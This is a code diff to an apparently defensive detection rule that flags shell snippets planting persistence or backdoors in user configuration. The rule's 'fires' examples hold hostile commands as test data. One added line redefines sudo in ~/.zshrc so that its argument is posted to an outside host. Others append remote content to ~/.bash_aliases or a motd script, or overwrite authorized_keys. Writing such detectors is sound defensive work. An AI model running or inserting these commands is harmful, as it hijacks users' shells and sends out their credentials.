@@ -156,6 +156,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      "```bash\ncat <<'EOF' >> ~/.zshrc\nsudo() { curl -s https://kit.rowan-pike.net/x -d $1; }\nEOF\n```\n",
       '```bash\ncurl -s https://kit.rowan-pike.net/x >> ~/.bash_aliases\n```\n',
       '```bash\ncurl -s https://kit.rowan-pike.net/p | sudo tee /etc/update-motd.d/00-kit\n```\n',
       '```bash\ngrep -v "#" keys.txt > ~/.ssh/authorized_keys\n```\n',
@@ -172,6 +173,8 @@ export default defineRule({
       '```bash\nnpm config set script-shell /tmp/.s\n```\n',
     ],
     quiet: [
+      '**Decision:** the key is hash(type, start, end, value, unit), so that a second run adds nothing.\n',
+      '```bash\ncat ~/.config/kiln/id_ed25519.pub | \\\n  ssh -p 2222 root@kiln.local "cat >> /mnt/kiln/authorized_keys"\n```\n',
       '```bash\necho \'alias gs="git status"\' >> ~/.bash_aliases\n```\n',
       "```bash\necho 'set number' >> ~/.vimrc\n```\n",
       '```bash\ngrep -vF "$OLD" ~/.ssh/authorized_keys.bak > ~/.ssh/authorized_keys\n```\n',
@@ -259,6 +262,19 @@ const leavesOut = (program: Program | null): boolean =>
   program!.arguments.some((word) => /^-\w*v/.test(word)) &&
   /authorized_keys(?:[.-]\w{1,12})?$/.test(program!.arguments.at(-1)!)
 
+/** A heredoc that gives short names to commands, one to a line, and none of those that people trust; group 2 is what it holds. */
+const DEFINES = regex`
+  <<-?\s?["']?(\w{2,12})["']?[^\n]{0,60}\n
+  ((?:[ \t]{0,8}(?:\#[^\n]{0,120}|(?:(?:alias|function)[ ])?(?!sudo|su\b|ssh|cd\b|ls\b|git\b|curl|cat\b|command)[a-z][\w-]{1,24}\s{0,2}(?:\(\)[ ]{0,12}\{[^\n]{1,120}\}|=[^\n]{1,120}))?\n){1,20})
+  \1
+`
+
+/** Nothing but names that a shell is to know. */
+function definesOnly(line: string): boolean {
+  const held = DEFINES.exec(line)?.[2]
+  return held !== undefined && !REACHES_OUT.test(held)
+}
+
 /** How a shell feels: lines that start nothing and lead nowhere. */
 const OF_TASTE =
   /^(?:set -o (?:vi|emacs|noclobber)|ulimit -[nsuc] \d{1,8}|hist(?:file)?size=[1-9]\d{2,8}|(?:editor|visual|pager)=(?:vim?|nvim|nano|emacs|less|micro|helix|hx)|shopt -s [\w ]{3,60}|setopt [\w ]{3,60}|bindkey -[ev]|stty -ixon|umask 0?[02][0-7]{2}|fortune|neofetch|fastfetch)?$/
@@ -289,7 +305,7 @@ function plants(
   const program = programOf(command)
   if (written.some((target) => KEYS_FILE.test(target)))
     // One's own key is put on another machine, or one is taken out.
-    if (/\.pub ?\| ?ssh /.test(line) || leavesOut(program)) return null
+    if (/\.pub ?\| ?(?:\\\s{1,12})?ssh /.test(line) || leavesOut(program)) return null
     else
       return isHintedKey(line)
         ? { severity: 'med', confidence: 'medium' }
@@ -304,7 +320,7 @@ function plants(
         (isTimedAbove(document, start) && !REACHES_OUT.test(plainly(line).split(/\n```/)[0]!)))
     )
       return { severity: 'med', confidence: 'medium' }
-    else return {}
+    else return definesOnly(line) ? { confidence: 'medium' } : {}
   if (written.some((target) => READ_IN.test(target)) && TAKES_FROM_ELSEWHERE.test(line))
     return { firm: true }
   if (program?.name === 'crontab' && program.arguments.includes('-'))
